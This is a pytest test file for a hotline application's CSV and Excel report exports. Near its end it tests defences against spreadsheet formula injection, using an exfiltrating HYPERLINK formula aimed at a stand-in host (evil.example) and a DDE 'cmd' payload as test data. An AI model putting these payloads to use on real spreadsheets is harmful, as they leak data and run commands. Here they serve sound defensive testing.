"""Exports of the report tables: CSV (UTF-8 with a byte-order mark) and Excel (openpyxl),
compared with the service's figures and the drill-down lists."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from hotline.extensions import db
from hotline.services.reporting import report_figures, reports
from hotline.web import report_exports, report_views
from tests import factories
from tests.web.conftest import text_of
from tests.web.report_data import END, PREVIOUS, RANGE, START, Data, H, M, make, make_data


@pytest.fixture
def data(city) -> Data:
    return make_data(city)


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads the Chinese right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def read_xlsx(response):
    workbook = load_workbook(io.BytesIO(response.get_data()))
    return workbook, workbook.worksheets[0]


def headers_of(columns) -> list[str]:
    return [report_views.time_column_label(c) if c in report_views.TIME_COLUMNS else str(c.label) for c in columns]


def test_group_table_as_csv(login, city, data):
    response = login(city.supervisor).get(f"/reports/response-times.csv?{RANGE}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="hotline-report-department-{START}-{END}.csv"'
    )
    header, *lines = read_csv(response)
    assert header == ["Code", "Department", *headers_of(report_views.ALL_COLUMNS)]
    assert "Time to resolve (hours): Median" in header
    expected = reports.report(START, END, "department")
    assert (
        [line[:2] for line in lines]
        == [[row.key, row.name] for row in expected]
        == [
            ["roads", "道路管理局"],
            ["water", "水务局"],
        ]
    )
    for line, row in zip(lines, expected, strict=True):
        for value, column in zip(line[2:], report_views.ALL_COLUMNS, strict=True):
            figure = getattr(row, column.name)
            if figure is None:
                assert value == "", column.name
            elif column.kind == "rate":
                assert value == f"{figure * 100:.2f}%", column.name
            else:
                assert float(value) == figure, column.name
    roads = dict(zip(header, lines[0], strict=True))
    assert (roads["Received"], roads["Resolved on time"], roads["Response rate"]) == ("3", "50.00%", "33.33%")


def test_group_table_as_excel(login, city, data):
    response = login(city.supervisor).get(f"/reports/response-times.xlsx?{RANGE}&group_by=district")
    assert response.status_code == 200
    assert response.mimetype == report_exports.XLSX_TYPE
    assert response.headers["Content-Disposition"].endswith(f'hotline-report-district-{START}-{END}.xlsx"')
    workbook, sheet = read_xlsx(response)
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Code", "District", "Received"]
    assert all(cell.font.b for cell in sheet[1])
    expected = {row.key: row for row in reports.report(START, END, "district")}
    values = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(values) == {"east", "west"}
    for key, row in expected.items():
        cells = dict(zip(header, values[key], strict=True))
        assert cells["Received"].value == row.received  # a number, not text
        assert isinstance(cells["Received"].value, int)
        rate = cells["Resolved on time"]
        assert rate.value == row.resolved_on_time_rate
        if rate.value is not None:
            assert rate.number_format == "0.0%"
        assert cells["Time to resolve (hours): Median"].value == row.resolve_p50_hours
    assert values["west"][1].value == "西城区"
    about = workbook["About"]
    notes = {row[0].value: row[1].value for row in about.iter_rows()}
    assert notes["Dates"] == f"{START} – {END}"
    assert notes["Group by"] == "District"
    assert "Accepted on time" in notes["Response rate"]


def test_trend_table_has_a_row_per_period_and_group(login, city, data):
    client = login(city.supervisor)
    response = client.get(f"/reports/response-times.csv?{RANGE}&table=trend&trend=day")
    header, *lines = read_csv(response)
    assert header[:3] == ["Period starting", "Code", "Department"]
    expected = reports.report(START, END, "department", "day")
    assert [(line[0], line[1], line[3]) for line in lines] == [
        (row.period.isoformat(), row.key, str(row.received)) for row in expected
    ]
    assert ("2026-11-03", "roads", "2") in [(line[0], line[1], line[3]) for line in lines]
    _workbook, sheet = read_xlsx(client.get(f"/reports/response-times.xlsx?{RANGE}&table=trend&trend=week"))
    first = [cell.value for cell in sheet[2]]
    assert first[0] == datetime(2026, 11, 2)  # the Monday that starts the week, as a date cell
    assert (first[1], first[3]) == ("roads", 3)


def test_ranking_export_in_rank_order(login, city, data):
    response = login(city.supervisor).get(f"/reports/response-times.csv?{RANGE}&table=ranking&group_by=district")
    header, *lines = read_csv(response)
    assert header[:3] == ["Rank", "Code", "Department"]
    assert [line[:2] for line in lines] == [["1", "roads"], ["2", "water"]]
    assert header[-1] == "Resolved on time: change (percentage points)"


def test_ticket_list_exports_match_the_drill_down(login, city, data):
    client = login(city.supervisor)
    query = f"{RANGE}&group_by=department&key=roads&measure=received"
    html = text_of(client.get(f"/reports/tickets?{query}"))
    response = client.get(f"/reports/tickets.csv?{query}")
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="hotline-tickets-department-roads-received-{START}-{END}.csv"'
    )
    header, *lines = read_csv(response)
    assert header[:4] == ["Number", "Logged at", "Status", "Type"]
    numbers = [line[0] for line in lines]
    assert numbers == [data.overdue.number, data.late.number, data.on_time.number]  # newest first
    assert all(number in html for number in numbers)
    late = dict(zip(header, lines[numbers.index(data.late.number)], strict=True))
    assert late["Logged at"] == "2026-11-03 10:00"  # the hotline's time
    assert (late["Status"], late["Department"], late["District"]) == ("Resolved", "道路管理局", "西城区")
    assert late["Category"] == "城乡建设 / 道路坑洼"
    assert late["Satisfaction"] == "Not satisfied"
    workbook, sheet = read_xlsx(client.get(f"/reports/tickets.xlsx?{query}"))
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(rows) == set(numbers)
    logged = rows[data.late.number][1]
    assert logged.value == datetime(2026, 11, 3, 10, 0)
    assert logged.number_format == "yyyy-mm-dd hh:mm"
    assert {row[0].value: row[1].value for row in workbook["About"].iter_rows()}["Count"] == "3"


def test_ticket_export_is_bounded(login, city, monkeypatch):
    for _ in range(4):
        factories.make_ticket(city.operator)
    monkeypatch.setattr(report_exports, "MAX_TICKET_ROWS", 3)
    client = login(city.supervisor)
    header, *lines = read_csv(client.get("/reports/tickets.csv?group_by=all&measure=received"))
    assert len(lines) == 4
    assert lines[-1] == ["# Only the first 3 of 4 tickets are listed."]
    workbook, sheet = read_xlsx(client.get("/reports/tickets.xlsx?group_by=all&measure=received"))
    assert sheet.max_row == 4  # the header and three tickets
    notes = {row[0].value: row[1].value for row in workbook["About"].iter_rows()}
    assert notes["Note"] == "Only the first 3 of 4 tickets are listed."


def test_export_bad_input(login, city):
    client = login(city.supervisor)
    cases = {
        "/reports/response-times.csv?table=everything": "“everything” is not one of: groups, trend, ranking.",
        "/reports/response-times.xlsx?from=2026-13-01": "“2026-13-01” is not a date",
        "/reports/response-times.csv?group_by=street": "“street” is not one of",
        "/reports/tickets.csv?measure=all": "“all” is not one of",
        "/reports/tickets.xlsx?group_by=department&key=nowhere": "There is no department “nowhere”.",
    }
    for url, message in cases.items():
        response = client.get(url)
        assert response.status_code == 400, url
        assert message in text_of(response), url
    assert client.get("/reports/response-times.pdf").status_code == 404


# -- no cell is a formula (OWASP CSV injection) --------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2&B2;"Click")'


@pytest.fixture
def formula_names(city, data):
    """A department and a category named with a formula, as a careless import would name them."""
    city.roads.name = FORMULA
    city.potholes.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()


def every_cell(workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "path",
    [
        f"/reports/response-times.{{fmt}}?{RANGE}",
        f"/reports/response-times.{{fmt}}?{RANGE}&table=trend&trend=day",
        f"/reports/response-times.{{fmt}}?{RANGE}&table=ranking",
        f"/reports/tickets.{{fmt}}?{RANGE}&group_by=department&key=roads&measure=received",
    ],
)
def test_no_export_carries_a_formula(login, city, formula_names, path):
    client = login(city.supervisor)
    lines = read_csv(client.get(path.format(fmt="csv")))
    cells = [cell for line in lines for cell in line]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    workbook, _sheet = read_xlsx(client.get(path.format(fmt="xlsx")))
    cells = every_cell(workbook)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))


def test_a_negative_number_stays_a_number(login, city, formula_names):
    # The ranking's last column is a change in percentage points: roads did better the week before.
    for _ in range(2):
        make(city.operator, PREVIOUS, accepted=10 * M, resolved=2 * H)
    report_figures.refresh_dirty()
    client = login(city.supervisor)
    query = f"{RANGE}&table=ranking"
    header, *lines = read_csv(client.get(f"/reports/response-times.csv?{query}"))
    changes = [float(line[-1]) for line in lines if line[-1]]
    assert any(change < 0 for change in changes), changes
    assert not [line[-1] for line in lines if line[-1].startswith("'")]
    _workbook, sheet = read_xlsx(client.get(f"/reports/response-times.xlsx?{query}"))
    last = [row[-1] for row in sheet.iter_rows(min_row=2)]
    negative = [cell for cell in last if isinstance(cell.value, float) and cell.value < 0]
    assert negative and all(cell.data_type == "n" for cell in negative)
